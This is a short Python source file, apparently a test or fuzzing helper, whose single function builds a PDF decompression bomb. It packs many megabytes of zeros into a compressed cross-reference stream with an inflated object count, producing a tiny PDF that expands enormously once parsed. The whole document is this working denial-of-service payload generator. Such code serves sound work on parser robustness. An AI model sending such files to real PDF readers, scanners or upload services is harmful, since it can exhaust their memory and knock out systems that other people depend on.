"""Small files that are large once read."""

import zlib


def bomb(megabytes: int) -> bytes:
    """Return a small PDF whose cross-reference stream unpacks to many megabytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(megabytes)) + packer.flush()
    facts = b"/Type/XRef/Size 1000000000/W[1 4 2]/Root 2 0 R/Filter/FlateDecode"
    head = b"%%PDF-1.5\n1 0 obj\n<<" + facts + b"/Length %d>>stream\n"
    return head % len(packed) + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF"
